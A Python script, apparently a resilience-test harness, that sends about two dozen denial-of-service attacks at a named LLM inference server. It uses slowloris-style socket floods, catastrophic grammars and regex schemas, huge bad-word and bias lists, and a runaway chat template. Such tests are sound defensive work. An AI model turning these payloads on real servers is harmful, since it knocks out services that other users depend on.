"""Requests and bytes of hostile clients for `victim.py`; as a program, one attack on a server.

``python attacks.py NAME URL METRICS_URL`` prints one line of JSON: how often each status came back, "None" where none
did.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import sys
from collections import Counter
from collections.abc import Callable, Iterable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from typing import Any
from urllib.parse import urlsplit

import httpx

COMPLETIONS = "/v1/completions"
ANSWER_SECONDS = 120.0
SOCKET_SECONDS = 10.0
NICENESS = 19
# Sent with bodies; raw bytes are sent without a key.
KEY = "attacker"

Status = int | None


@dataclass(frozen=True)
class Target:
    """The addresses of a server."""

    url: str
    metrics_url: str


Attack = Callable[[Target], Iterable[Status]]


@dataclass(frozen=True)
class Bodies:
    """Requests sent at once: `make` returns the JSON body of each number up to `count`."""

    make: Callable[[int], dict[str, Any]]
    count: int = 1
    path: str = COMPLETIONS

    def __call__(self, target: Target) -> Iterable[Status]:
        """The status of each answer."""
        contents = [json.dumps(self.make(number)).encode() for number in range(self.count)]
        with ThreadPoolExecutor(self.count) as threads:
            yield from threads.map(lambda content: _posted(target.url + self.path, content), contents)


def _posted(url: str, content: bytes) -> Status:
    try:
        headers = {"content-type": "application/json", "authorization": f"Bearer {KEY}"}
        return httpx.post(url, content=content, headers=headers, timeout=ANSWER_SECONDS).status_code
    except httpx.HTTPError:
        return None


@dataclass(frozen=True)
class RawBytes:
    """Connections that send `begin`, then `more` until the server closes or `total` bytes are sent."""

    begin: bytes
    more: bytes = b""
    total: int = 0
    connections: int = 1
    to_metrics: bool = False

    def __call__(self, target: Target) -> Iterable[Status]:
        """The status of each answer, None for a connection that is closed without one."""
        address = urlsplit(target.metrics_url if self.to_metrics else target.url)
        place = (address.hostname or "", address.port or 80)
        opened = []
        for _ in range(self.connections):
            try:
                opened.append(socket.create_connection(place, timeout=SOCKET_SECONDS))
            except OSError:
                yield None
        with ThreadPoolExecutor(min(len(opened), 32) or 1) as threads:
            yield from threads.map(self._sent, opened)
        for each in opened:
            each.close()

    def _sent(self, connection: socket.socket) -> Status:
        try:
            connection.sendall(self.begin)
            for _ in range(self.total // max(1, len(self.more))):
                connection.sendall(self.more)
            if self.begin:
                return _status(connection.recv(64))
        except OSError:
            return None
        return None


def _status(head: bytes) -> Status:
    parts = head.split(b" ", 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else None


def _ambiguous_grammar(_: int) -> dict[str, Any]:
    rule = " | ".join(f'e e "a{n}"' for n in range(600))
    return {"prompt": "x", "max_tokens": 32, "guided_grammar": f'start: e\ne: {rule} | "b"'}


def _long_lark(_: int) -> dict[str, Any]:
    rules = "\n".join(f'r{n}: "w{n}" r{n + 1}? | /[a-z]+{n}/' for n in range(2000))
    return {"prompt": "x", "max_tokens": 4, "n": 31, "guided_grammar": f'start: r0\n{rules}\nr2000: "end"'}


def _slow_schema(number: int) -> dict[str, Any]:
    properties = {f"p{number}_{n}": {"type": "string", "pattern": f"^[a-z]{{1,{60 + n % 40}}}$"} for n in range(400)}
    schema = {"type": "object", "properties": properties, "required": list(properties)}
    return {"prompt": "x", "max_tokens": 2, "guided_json": schema}


def _bad_words(_: int) -> dict[str, Any]:
    return {"prompt": ["x"] * 2048, "max_tokens": 1, "bad_words": ["abcdefg " * 29] * 4096}


def _short_bad_words(_: int) -> dict[str, Any]:
    return {"prompt": ["x"] * 32, "max_tokens": 1, "bad_words": [f"w{n}" for n in range(4096)]}


def _bad_lists(_: int) -> dict[str, Any]:
    return {"prompt": "x", "max_tokens": 1, "n": 128, "bad_words_token_ids": [[n % 256] for n in range(983_000)]}


def _allowed(_: int) -> dict[str, Any]:
    return {"prompt": ["x"] * 256, "max_tokens": 1, "allowed_token_ids": list(range(49_152))}


def _biases(_: int) -> dict[str, Any]:
    return {"prompt": ["x"] * 2000, "max_tokens": 1, "logit_bias": {str(n): 1.0 for n in range(4096)}}


def _matching_lists(_: int) -> dict[str, Any]:
    lists = [[n % 251, n % 241, 7] for n in range(16_384)]
    return {"prompt": "x", "max_tokens": 64, "n": 31, "bad_words_token_ids": lists}


def _tokenized(_: int) -> dict[str, Any]:
    return {"prompt": "word " * 3_000_000, "return_token_strs": True}


def _slow_template(_: int) -> dict[str, Any]:
    template = "{% for a in range(9999) %}{% for b in range(9999) %}{{ a * b }}{% endfor %}{% endfor %}"
    return {"messages": [{"role": "user", "content": "x"}], "max_tokens": 1, "chat_template": template}


def _token_embed(number: int) -> dict[str, Any]:
    return {"input": [(7 * number + place) % 500 for place in range(2000)], "task": "token_embed"}


def _embeddings(number: int) -> dict[str, Any]:
    return {"input": [[(31 * number + 7 * row + place) % 500 for place in range(1500)] for row in range(8)]}


def _prompt_logprobs(number: int) -> dict[str, Any]:
    prompt = [(11 * number + 3 * place) % 500 for place in range(2000)]
    return {"prompt": [prompt] * 16, "max_tokens": 1, "prompt_logprobs": 20}


def _orders(names: Sequence[str]) -> Callable[[int], dict[str, Any]]:
    def body(number: int) -> dict[str, Any]:
        turned = [*names[number % len(names) :], *names[: number % len(names)]]
        order = turned if number < len(names) else turned[::-1]
        chosen = [{"name": name, "params": {"min_p": 0.01}} for name in order]
        return {"prompt": "x", "max_tokens": 16, "ignore_eos": True, "logits_processors": chosen}

    return body


def _slow_code(name: str, *, spins: bool) -> Callable[[int], dict[str, Any]]:
    chosen = {name: {"seconds": 5.0, "spins": spins}}
    return lambda _: {"prompt": "The lamp", "max_tokens": 2, "logits_processors": chosen}


ORDERED_NAMES = tuple(f"cut_{number}" for number in range(17))
SLOW_CODE = {"Params": "SlowParams", "validate_params": "SlowCheck", "constructor": "SlowInstance"}
SPECS = (
    *(f"{name}=MinPLogitsProcessor" for name in ORDERED_NAMES),
    *("slow_author:SlowParams", "slow_author:SlowCheck", "SlowInstance=slow_author:PLUGIN"),
)
"""The processors that the attacks name."""
GET = b"GET /health/live HTTP/1.1\r\nHost: x\r\n"
POST = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 15900000\r\n\r\n"

ATTACKS: dict[str, Attack] = {
    "ambiguous grammar": Bodies(_ambiguous_grammar),
    "Lark of 70 KB, n = 31": Bodies(_long_lark),
    "24 slow schemas": Bodies(_slow_schema, 24),
    "2,048 prompts x 4,096 bad words": Bodies(_bad_words),
    "32 prompts x 4,096 bad words": Bodies(_short_bad_words),
    "128 x 983,000 bad lists": Bodies(_bad_lists),
    "256 prompts x 49,152 allowed": Bodies(_allowed),
    "2,000 prompts x 4,096 biases": Bodies(_biases),
    "31 x 16,384 matching lists": Bodies(_matching_lists),
    "headers without end": RawBytes(GET, b"X-Name: value\r\n" * 4096, 200_000_000),
    "a header name without end": RawBytes(GET, b"a" * 65_536, 200_000_000),
    "a URL without end": RawBytes(b"GET /", b"a" * 65_536, 200_000_000),
    "/tokenize of 15 MB": Bodies(_tokenized, 1, "/tokenize"),
    "paths of 60 KB": RawBytes(b"GET /" + b"a" * 60_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", b"", 0, 6400),
    "1,500 idle connections to the metrics": RawBytes(b"", b"", 0, 1500, to_metrics=True),
    "150 unfinished bodies": RawBytes(POST, b" " * 65_536, 15_800_000, 150),
    "30 slow chat templates": Bodies(_slow_template, 30, "/v1/chat/completions"),
    "31 orders of 17 processors": Bodies(_orders(ORDERED_NAMES), 31),
    "20 x 2,000 tokens of token_embed": Bodies(_token_embed, 20, "/pooling"),
    "prompt_logprobs of many megabytes": Bodies(_prompt_logprobs, 2),
    "embeddings": Bodies(_embeddings, 4, "/v1/embeddings"),
    **{
        f"{kind} that {'spins' if spins else 'sleeps'}": Bodies(_slow_code(name, spins=spins))
        for kind, name in SLOW_CODE.items()
        for spins in (False, True)
    },
}


def main() -> int:
    """Runs one attack at the lowest priority."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=list(ATTACKS))
    parser.add_argument("url")
    parser.add_argument("metrics_url")
    parser.add_argument("--bodies", type=int, help="at most, of an attack that sends several")
    options = parser.parse_args()
    os.nice(NICENESS)
    attack = ATTACKS[options.name]
    if options.bodies is not None and isinstance(attack, Bodies):
        attack = replace(attack, count=min(attack.count, options.bodies))
    found = Counter(attack(Target(options.url, options.metrics_url)))
    print(json.dumps({str(status): count for status, count in found.items()}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
